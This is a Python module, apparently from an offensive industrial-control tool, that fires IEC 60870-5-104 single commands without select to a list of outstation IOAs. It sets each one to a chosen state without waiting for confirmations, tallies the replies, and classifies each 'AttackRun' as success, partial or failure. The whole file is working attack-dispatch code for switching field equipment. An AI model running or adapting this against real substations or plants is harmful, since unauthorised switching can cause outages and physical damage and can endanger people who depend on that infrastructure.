"""
Multi-Target Command Dispatch
=============================

Fires one single command (C_SC_NA_1, no select) per target, in list order,
without waiting for the outstation between commands. Confirmations arrive
later on the session thread and are folded into a ResponseTracker that
belongs to the run.

Outcome of a run, read after the collection window:
    SUCCESS - at least one command sent, no send failure, no rejection
    FAILURE - nothing sent
    PARTIAL - anything else

A confirmation carries only the IOA, so when a target list names the same
IOA twice its confirmations cannot be matched to a particular send.
"""

import logging
import threading
import time
from dataclasses import dataclass, field
from enum import Enum
from typing import Callable, List, Optional, Sequence, Tuple

from protocols.iec104.messages import TypeID, CauseOfTransmission
from protocols.iec104.session import ApplicationMessage, SessionError
from ioamap.config import DEFAULT_CA, INTER_CMD_DELAY_MS
from ioamap.target_map import TargetEntry


logger = logging.getLogger(__name__)


class CommandVerdict(Enum):
    CONFIRMED = "ACT_CON"
    NEGATIVE = "ACT_CON negative"
    UNKNOWN_IOA = "unknown IOA"
    UNKNOWN_CA = "unknown common address"
    UNKNOWN_COT = "unknown cause"

    @property
    def is_rejection(self) -> bool:
        return self is not CommandVerdict.CONFIRMED


_REJECTION_CAUSES = {
    CauseOfTransmission.UNKNOWN_IOA: CommandVerdict.UNKNOWN_IOA,
    CauseOfTransmission.UNKNOWN_CA: CommandVerdict.UNKNOWN_CA,
    CauseOfTransmission.UNKNOWN_COT: CommandVerdict.UNKNOWN_COT,
}


class ResponseTracker:
    """
    Confirmation counters of one run.

    on_notification() is registered as the session's application message
    handler and runs on the session thread; readers run on the dispatch
    thread. Every access goes through one Condition.
    """

    def __init__(self):
        self._cond = threading.Condition()
        self._confirmed = 0
        self._rejected = 0
        self._terminated = 0
        self._verdicts: List[Tuple[int, CommandVerdict]] = []

    @property
    def confirmed(self) -> int:
        with self._cond:
            return self._confirmed

    @property
    def rejected(self) -> int:
        with self._cond:
            return self._rejected

    @property
    def terminated(self) -> int:
        with self._cond:
            return self._terminated

    @property
    def verdicts(self) -> List[Tuple[int, CommandVerdict]]:
        """(ioa, verdict) in arrival order"""
        with self._cond:
            return list(self._verdicts)

    def on_notification(self, message: ApplicationMessage):
        if message.type_id != TypeID.C_SC_NA_1:
            logger.debug(f"[<] {message}")
            return

        if message.cause == CauseOfTransmission.ACTIVATION_CON:
            verdict = CommandVerdict.NEGATIVE if message.negative else CommandVerdict.CONFIRMED
        elif message.cause in _REJECTION_CAUSES:
            verdict = _REJECTION_CAUSES[message.cause]
        elif message.cause == CauseOfTransmission.ACTIVATION_TERMINATION:
            logger.info(f"[+] ACT_TERM for IOA {message.ioa}")
            with self._cond:
                self._terminated += 1
            return
        else:
            logger.info(f"[<] C_SC_NA_1 response: cot={message.cause} IOA={message.ioa} "
                        f"negative={message.negative}")
            return

        if verdict.is_rejection:
            logger.warning(f"[!] {verdict.value.upper()} for IOA {message.ioa}")
        else:
            logger.info(f"[+] ACT_CON OK for IOA {message.ioa}")

        with self._cond:
            if verdict.is_rejection:
                self._rejected += 1
            else:
                self._confirmed += 1
            self._verdicts.append((message.ioa, verdict))
            self._cond.notify_all()

    def wait_for_verdict(self, timeout: float) -> bool:
        """Block until one confirmation or rejection arrived, or timeout"""
        with self._cond:
            return self._cond.wait_for(lambda: self._confirmed + self._rejected > 0,
                                       timeout)


class RunOutcome(Enum):
    SUCCESS = "success"
    PARTIAL = "partial"
    FAILURE = "failure"


_EXIT_CODES = {
    RunOutcome.SUCCESS: 0,
    RunOutcome.FAILURE: 1,
    RunOutcome.PARTIAL: 2,
}


@dataclass
class AttackRun:
    """Send counters of one dispatch; confirmations live in the tracker"""
    targets: List[TargetEntry]
    tracker: ResponseTracker = field(default_factory=ResponseTracker)
    sent: int = 0
    send_failed: int = 0

    @property
    def confirmed(self) -> int:
        return self.tracker.confirmed

    @property
    def rejected(self) -> int:
        return self.tracker.rejected

    @property
    def outcome(self) -> RunOutcome:
        return classify_run(self)

    @property
    def exit_code(self) -> int:
        return _EXIT_CODES[self.outcome]


def classify_run(run: AttackRun) -> RunOutcome:
    if run.sent == 0:
        return RunOutcome.FAILURE
    if run.send_failed == 0 and run.rejected == 0:
        return RunOutcome.SUCCESS
    return RunOutcome.PARTIAL


class Dispatcher:
    """
    Sends commands through a session.

    The session needs send_single_command(cause, common_address, ioa, state)
    returning a bool, as IEC104Session provides.
    """

    def __init__(self, session, common_address: int = DEFAULT_CA,
                 inter_command_delay_s: float = INTER_CMD_DELAY_MS / 1000.0,
                 sleep: Callable[[float], None] = time.sleep):
        self.session = session
        self.common_address = common_address
        self.inter_command_delay_s = inter_command_delay_s
        self._sleep = sleep

    def dispatch(self, targets: Sequence[TargetEntry],
                 tracker: Optional[ResponseTracker] = None) -> AttackRun:
        """
        Send one command per target, in order. A send failure is counted and
        the run moves on to the next target.
        """
        run = AttackRun(list(targets), tracker or ResponseTracker())

        for target in run.targets:
            logger.info(f"[>] IOA {target.ioa} ({target.name}) -> {target.desired_state.name}")
            try:
                sent = self.session.send_single_command(
                    CauseOfTransmission.ACTIVATION, self.common_address,
                    target.ioa, target.desired_state.is_on)
            except SessionError as e:
                logger.error(f"    [!] Send error for IOA {target.ioa}: {e}")
                sent = False

            if sent:
                run.sent += 1
                logger.debug(f"    [+] Command sent for IOA {target.ioa}")
            else:
                run.send_failed += 1
                logger.warning(f"    [!] Send failed for IOA {target.ioa} (buffer full?)")

            if self.inter_command_delay_s > 0:
                self._sleep(self.inter_command_delay_s)

        logger.info(f"Dispatch complete: {run.sent} sent, {run.send_failed} failed")
        return run

    def collect(self, run: AttackRun, window_s: float) -> RunOutcome:
        """Wait the fixed collection window, then classify the run"""
        logger.info(f"Waiting {window_s:.1f}s for ACT_CON responses")
        if window_s > 0:
            self._sleep(window_s)
        outcome = classify_run(run)
        logger.info(f"Run outcome: {outcome.name} (confirmed={run.confirmed} "
                    f"rejected={run.rejected})")
        return outcome
